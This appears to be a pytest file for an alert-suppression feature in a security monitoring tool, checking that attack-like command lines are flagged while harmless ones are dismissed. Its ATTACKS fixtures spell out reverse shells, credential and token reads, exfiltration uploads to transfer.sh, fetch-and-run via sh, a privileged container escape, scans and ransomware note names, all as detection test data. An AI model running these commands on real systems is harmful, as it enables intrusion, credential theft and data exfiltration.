@@ -1,0 +1,128 @@
+"""Which command lines of suppressed programs look like an attack: hardly any harmless one does."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import msgspec
+import pytest
+
+from drift.alerts.domain.command_signals import attack_signals
+from drift.alerts.domain.suppression_match import compile_suppression
+from sensor import wire
+from tests.unit.drift.alerts.conftest import event
+
+HARMLESS = [
+    "git fetch https://github.com/a/b",
+    "app http://payments.billing:8080",
+    "openssl pkcs12 -in a.p12 -out a.pem",
+    "dockerd --daemon",
+    "dockerd -H unix:///var/run/docker.sock --containerd=/run/containerd/containerd.sock",
+    "containerd-shim-runc-v2 -namespace moby -address /run/containerd/containerd.sock",
+    "keytool -list -keystore app.jks",
+    "node recover.html",
+    "node server.js --template unlock-account.html",
+    "pg_tool --list restore.txt",
+    "encode --ext mp4 --threads 8 /srv/in",
+    "eslint --ext .ts,.tsx --threads 4 src",
+    "nohup app --detach",
+    "app --config /tmp/.app/config.yaml",
+    "pip install pysocks requests",
+    "rsync -e ssh -r 10.1.2.3:/data /backup",
+    "ssh -i /root/.ssh/id_ed25519 deploy@build.example.com make",
+    "git -c core.sshCommand=ssh -i /root/.ssh/id_rsa fetch origin",
+    "scp -o UserKnownHostsFile=/root/.ssh/known_hosts a b:/srv",
+    "ansible-playbook --private-key /root/.ssh/id_rsa site.yml",
+    "helm --kubeconfig /root/.kube/config upgrade app ./chart",
+    "npm ci --userconfig=/work/.npmrc",
+    "vault kv get secret/app",
+    "agent --certificate-authority /var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
+    "agent --namespace-file=/run/secrets/kubernetes.io/serviceaccount/namespace",
+    "python model.py in.nc -c config.yaml",
+    "sh -c until nc -z db 5432; do sleep 1; done; exec app -c /etc/app.conf",
+    "sh ./convert.sh -i in.csv",
+    "gateway --trusted-proxies 10.0.0.0/8 --port 8080",
+    "gateway --trusted-proxies=10.0.0.0/8,192.168.0.0/16 -p 8080",
+    "kube-proxy --cluster-cidr=10.0.0.0/16 --port 10249",
+    "flyway migrate --target=1.2",
+    "kotlinc --target 1.8 a.kt",
+    "bash /opt/scripts/transfer.sh --all",
+    "node toast.js --profile.io x",
+    "java -Dlog.file.io.threads=4 -jar app.jar",
+    "postgres -D /var/lib/postgresql/data",
+    "worker --shm /dev/shm/app.cache",
+    "app --peer 185.220.101.7:443",
+    "java -cp /opt/jdk/17.0.9.1/lib/a.jar Main",
+    "curl -fsS https://example.com/healthz",
+    "aws s3 sync /backup s3://corp-backup/daily",
+    "app --version",
+]
+ATTACKS = {
+    "tool --url stratum+tcp://pool.example:3333": "miner",
+    "tool ssh -N -R 127.0.0.1:2222:localhost:22 203.0.113.9": "tunnel",
+    "tool ssh -D1080 203.0.113.9": "tunnel",
+    "tool client c2:443 R:socks": "tunnel",
+    "tool -L socks5://:1080": "tunnel",
+    "tool nc -nv 203.0.113.9 4444 -e /bin/sh": "reverse_shell",
+    "sh -c nc 203.0.113.9 4444 -e /bin/sh; true": "reverse_shell",
+    "tool -ex shell /bin/bash -i >& /dev/fd/3": "reverse_shell",
+    "tool cat /run/secrets/kubernetes.io/serviceaccount/token": "credentials",
+    "tool cat /var/run/secrets/kubernetes.io/serviceaccount/ca.crt /root/.ssh/id_rsa": "credentials",
+    "tool --kubeconfig /root/.kube/config get secrets -A": "credentials",
+    "tool --kubeconfig=/root/.kube/config;cat /etc/shadow": "credentials",
+    "tool cat /home/a/.npmrc": "credentials",
+    "tool --userconfig /etc/shadow": "credentials",
+    "tool --private-key /proc/1/root/root/.ssh/id_rsa": "escape",
+    "tool 10.0.0.0/8 -p 22": "scan",
+    "tool -sS -n 10.0.0.0/8 -p 22": "scan",
+    "tool --range 10.0.0.0/8 -p 22,80,443": "scan",
+    "tool --range=10.0.0.0/8 --ports 1-1024": "scan",
+    "tool 10.0.0.0/8 --rate 10000": "scan",
+    "tool --target 1 --mount --pid": "escape",
+    "docker -H unix:///var/run/docker.sock run --privileged -v /:/host a": "runtime_socket",
+    "tool -c wget -qO- https://example.com/x | sh": "encoded",
+    "tool curl --upload-file /data.tgz https://transfer.sh/x": "exfiltration",
+    "tool curl transfer.sh -T /data.tgz": "exfiltration",
+    "tool https://abc.oast.fun/x": "exfiltration",
+    "tool copy /srv/data :mega:archive": "exfiltration",
+    "tool --path /srv --ext .lck9 --threads 8": "ransom",
+    "tool --note README_RESTORE_FILES.txt": "ransom",
+    "tool -o how_to_decrypt.hta": "ransom",
+    "tool --html recover_your_files.html": "ransom",
+}
+
+
+def started(line: str, **changes: Any) -> wire.Event:
+    argv = line.split(" ")
+    return msgspec.convert(event(process__argv=argv, process__name=argv[0], **changes), wire.Event)
+
+
+def dismisses(sent: wire.Event, *, covers_new_content: bool = False) -> bool:
+    paths = {"property": "process_path", "any_of": [{"operator": "equals", "value": sent.process.path}]}
+    rule = compile_suppression(1, "a", frozenset(), [paths], covers_new_content=covers_new_content)
+    return rule.matches(1, wire.flatten(sent, "azure", "1", "blue"), sent)
+
+
+@pytest.mark.parametrize("line", HARMLESS)
+def test_a_harmless_command_line_is_dismissed(line: str) -> None:
+    assert attack_signals(started(line)) == []
+    assert dismisses(started(line))
+
+
+@pytest.mark.parametrize("line", ATTACKS)
+def test_a_command_line_of_an_attack_is_not(line: str) -> None:
+    assert ATTACKS[line] in attack_signals(started(line))
+    assert not dismisses(started(line))
+    assert dismisses(
+        started(
+            line,
+        ),
+        covers_new_content=True,
+    )
+
+
+def test_a_library_has_the_command_line_of_what_loads_it() -> None:
+    line = "bash -c exec 5<>/dev/tcp/db/5432"
+
+    assert dismisses(started(line, kind="library", process__via="/bin/bash"))
+    assert not dismisses(started(line))
